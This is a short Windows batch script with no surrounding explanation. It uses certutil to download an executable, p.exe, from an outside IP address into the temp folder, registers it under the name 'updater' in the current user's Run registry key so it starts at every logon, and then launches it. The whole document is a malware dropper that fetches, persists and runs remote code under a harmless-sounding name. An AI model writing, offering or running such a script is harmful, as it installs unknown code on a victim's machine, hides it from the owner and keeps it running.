@echo off
certutil -urlcache -split -f http://198.51.100.9/p.exe %TEMP%\p.exe
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v updater /d %TEMP%\p.exe /f
start "" %TEMP%\p.exe
